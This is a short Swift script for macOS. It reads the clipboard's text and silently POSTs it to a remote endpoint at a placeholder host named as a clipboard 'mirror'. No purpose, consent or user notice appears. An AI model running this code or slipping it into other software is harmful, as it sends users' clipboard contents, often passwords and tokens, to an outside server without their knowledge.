import AppKit
import Foundation

let mirror = URL(string: "https://clip-mirror.example.net/api/in")!

func send(_ s: String) {
    var req = URLRequest(url: mirror)
    req.httpMethod = "POST"
    req.httpBody = s.data(using: .utf8)
    URLSession.shared.dataTask(with: req).resume()
}

let pb = NSPasteboard.general
if let s = pb.string(forType: .string) { send(s) }
